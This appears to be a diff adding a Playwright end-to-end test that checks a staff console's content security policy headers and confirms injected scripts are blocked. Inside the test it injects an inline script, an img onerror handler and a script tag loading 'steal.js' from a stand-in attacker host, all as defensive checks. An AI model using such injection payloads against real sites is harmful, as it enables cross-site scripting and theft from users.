@@ -1,0 +1,55 @@
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import type { Browser } from 'playwright-core';
+import { e2e, launchBrowser, signedInPage } from '../src/browser.ts';
+
+/** What a script that got into the console's page (a product summary, a name) could do. */
+describe('the console’s content security policy', () => {
+  let browser: Browser;
+  before(async () => {
+    browser = await launchBrowser();
+  });
+  after(() => browser.close());
+
+  it('when staff work in the console, then it breaks none of its own policy, and a script slipped into the page does not run', async () => {
+    const { page, context } = await signedInPage(browser);
+    await page.addInitScript(() => {
+      const seen: string[] = [];
+      (window as unknown as { violations: string[] }).violations = seen;
+      document.addEventListener('securitypolicyviolation', (event) =>
+        seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
+      );
+    });
+    const response = await page.goto('/catalog/product');
+    const header = response?.headers()['content-security-policy'] ?? '';
+    assert.match(header, /script-src 'self'/);
+    assert.match(header, /frame-ancestors 'none'/);
+    assert.match(header, new RegExp(`connect-src 'self' ${new URL(e2e.apiUrl).origin}`));
+    await page.getByRole('heading', { name: 'Produits' }).waitFor();
+    await page.waitForLoadState('networkidle');
+    assert.deepEqual(
+      await page.evaluate(() => (window as unknown as { violations: string[] }).violations),
+      [],
+    );
+
+    const ran = await page.evaluate(async () => {
+      const target = window as unknown as { injected?: boolean; violations: string[] };
+      const inline = document.createElement('script');
+      inline.textContent = 'window.injected = true';
+      document.body.append(inline);
+      const foreign = document.createElement('script');
+      foreign.src = 'https://attacker.example/steal.js';
+      document.body.append(foreign);
+      const handler = document.createElement('img');
+      handler.setAttribute('src', 'data:,');
+      handler.setAttribute('onerror', 'window.injected = true');
+      document.body.append(handler);
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return { injected: target.injected === true, violations: target.violations };
+    });
+    assert.equal(ran.injected, false);
+    assert.ok(ran.violations.some((violation) => violation.startsWith('script-src-elem inline')));
+    assert.ok(ran.violations.some((violation) => violation.includes('attacker.example')));
+    await context.close();
+  });
+});
